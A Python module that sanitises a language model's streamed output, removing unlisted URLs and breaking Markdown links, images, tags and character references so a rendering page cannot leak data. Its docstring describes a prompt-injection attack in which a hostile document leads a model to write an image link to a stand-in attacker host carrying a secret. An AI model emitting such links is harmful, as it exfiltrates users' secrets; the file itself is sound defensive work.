"""Text of a model made harmless to whatever renders it, while it streams. Pure.

A hostile document can talk a model into writing `![](https://evil.example/?q=SECRET)`; a page that renders it sends the
secret away. So no link, image or tag in a model's text survives as one:

- an address that does not stand word for word in the evidence becomes `(link removed)`;
- Markdown images, links and reference definitions are broken by a space (`] (`, `] :`), and so are opening tags (`< b`)
  and character references (`& #58;`), behind which an address could hide.

What comes out does not depend on how the text was cut into deltas.
"""

import re
from collections.abc import Iterable

REMOVED = "(link removed)"
_LONGEST = 4_096  # A word longer than this is cut here: nobody waits for its end, and no pattern sees more at once.

# Nothing that is removed or broken spans white space or a character of a script that is written without it.
_GAP = r"\s\u3000-\u303f\u3040-\u30ff\u3400-\u9fff\uac00-\ud7af\uff00-\uffef"
_PIECE = re.compile(rf"[^{_GAP}]{{0,{_LONGEST - 1}}}[{_GAP}]|[^{_GAP}]{{{_LONGEST}}}")
_STOP = rf"{_GAP}<>\"'`|^{{}}"
_ADDRESS = re.compile(
    rf"(?:(?<![a-z0-9+.\-])[a-z0-9+.\-]+:[/\\]{{2,}}"  # scheme://
    rf"|(?:mailto|tel|javascript|vbscript|blob|view-source):(?=[^{_STOP}])|data:\w+/"
    rf"|www\.(?=[^{_STOP}])"
    rf"|(?<![a-z0-9_:./\\])[/\\]{{2,}}(?=[a-z0-9\[])"  # the page's own scheme
    rf"|(?<![a-z0-9_@.\-])(?:[a-z0-9\-]+\.)+[a-z]{{2,24}}(?::\d+)?/)"  # a host and a path
    rf"[^{_STOP}]*",
    re.IGNORECASE | re.ASCII,
)
_MARKUP = re.compile(r"!(?=\[)|\](?=[(:])|<(?=[a-zA-Z/!?])|&(?=#|[a-zA-Z][a-zA-Z0-9]{1,30};)")
_TRAILING = ".,;:!?)]}*_~"


class LinkGuard:
    """Takes deltas, gives back text in which every link is dead; a word is held back until its end is seen."""

    def __init__(self, evidence: Iterable[str]) -> None:
        self._allowed = "\n".join(evidence)
        self._pending = ""

    def feed(self, delta: str) -> str:
        """Return the text up to the last complete word."""
        self._pending += delta
        ready: list[str] = []
        position = 0
        while match := _PIECE.match(self._pending, position):
            ready.append(self._defanged(match.group()))
            position = match.end()
        self._pending = self._pending[position:]
        return "".join(ready)

    def finish(self) -> str:
        """Return the rest."""
        rest, self._pending = self._pending, ""
        return self._defanged(rest)

    def _defanged(self, piece: str) -> str:
        return _MARKUP.sub(_broken, _ADDRESS.sub(self._judged, piece))

    def _judged(self, match: "re.Match[str]") -> str:
        address = match.group()
        core = address.rstrip(_TRAILING)
        return address if core in self._allowed else REMOVED + address[len(core) :]


def _broken(match: "re.Match[str]") -> str:
    return "" if match.group() == "!" else match.group() + " "
